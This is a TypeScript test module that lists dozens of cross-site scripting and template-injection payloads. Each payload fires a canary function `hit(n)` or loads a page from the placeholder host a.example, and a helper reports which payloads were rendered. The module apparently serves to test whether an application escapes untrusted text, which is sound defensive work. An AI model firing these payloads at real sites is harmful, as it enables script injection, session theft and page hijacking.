/** Texts that do something where they are taken for more than text: each calls `hit` with its number, or asks a stranger for a page. */
const TEXTS: readonly ((n: number) => string)[] = [
  n => `<script>hit(${n})</script>`,
  n => `"><script>hit(${n})</script>`,
  n => `'><img src=x onerror=hit(${n})>`,
  n => `<img src=x onerror=hit(${n})>`,
  n => `<svg onload=hit(${n})>`,
  n => `<svg><script>hit(${n})</script></svg>`,
  n => `<svg><animate onbegin=hit(${n}) attributeName=x>`,
  n => `<iframe srcdoc="<script>parent.hit(${n})</script>">`,
  n => `<iframe src="javascript:parent.hit(${n})">`,
  n => `<body onload=hit(${n})>`,
  n => `<input autofocus onfocus=hit(${n})>`,
  n => `<details open ontoggle=hit(${n})>`,
  n => `<video src=x onerror=hit(${n})>`,
  n => `<math href="javascript:hit(${n})">x</math>`,
  n => `<a href="javascript:hit(${n})">x</a>`,
  n => `javascript:hit(${n})`,
  n => `data:text/html,<script>parent.hit(${n})</script>`,
  n => `<object data="javascript:hit(${n})">`,
  n => `<embed src="javascript:hit(${n})">`,
  n => `<form action="javascript:hit(${n})"><button>`,
  n => `<meta http-equiv=refresh content=0;//a.example/${n}>`,
  n => `<base href=//a.example/hit(${n})/>`,
  n => `<link rel=stylesheet href=//a.example/hit(${n})>`,
  n => `<style>*{background:url(//a.example/hit(${n}))}`,
  n => `"style="background:url(//a.example/hit(${n}))`,
  n => `" autofocus onfocus=hit(${n}) x="`,
  n => `' autofocus onfocus='hit(${n})' x='`,
  n => `</title><script>hit(${n})</script>`,
  n => `</textarea><img src=x onerror=hit(${n})>`,
  n => `--><svg onload=hit(${n})>`,
  n => `]]><script>hit(${n})</script>`,
  n => `<b/onclick=hit(${n}) style=position:fixed;inset:0>`,
  n => `{x, plural, one {hit(${n})} other {<b>#</b>}}`,
  n => `{{constructor.constructor('hit(${n})')()}}`,
  n => `\${hit(${n})}`,
  n => `[x](javascript:hit(${n}))`,
  n => `![x](x"onerror="hit(${n}))`,
  n => `\u202E<script>hit(${n})</script>`,
  n => `<scr\u200Bipt>hit(${n})</scr\u200Bipt>`,
  n => `\uFF1Cscript\uFF1Ehit(${n})\uFF1C/script\uFF1E`,
  n => `%3Cscript%3Ehit(${n})%3C/script%3E`,
  n => `&lt;script&gt;hit(${n})&lt;/script&gt;`,
  n => `\\u003cscript\\u003ehit(${n})\\u003c/script\\u003e`,
  n => `\r\n\r\n<script>hit(${n})</script>`,
  n => `';hit(${n});//`,
  n => `"-hit(${n})-"`,
]
export const PAYLOADS: readonly string[] = TEXTS.map((text, n) => text(n))

/** Where only a few characters have room: nothing runs, but what is around them would fall apart. */
const SHORT = ['<svg/onload', '</script>', '"><svg/a=', `'"<>&{}\``, '<!--', '${1}', '{a,', '">', '<b']

/** The payload of that number, or of those that fit the longest. */
export const payload = (n: number, most: number): string => {
  const text = PAYLOADS[n % PAYLOADS.length]!
  if (text.length <= most) return text
  const fit = SHORT.filter(one => one.length <= most)
  return fit[n % fit.length] ?? '<'
}

/** Numbers of the payloads that a text shows. */
export const shown = (text: string): number[] => [...text.matchAll(/hit\((\d+)\)/g)].map(([, n]) => Number(n))
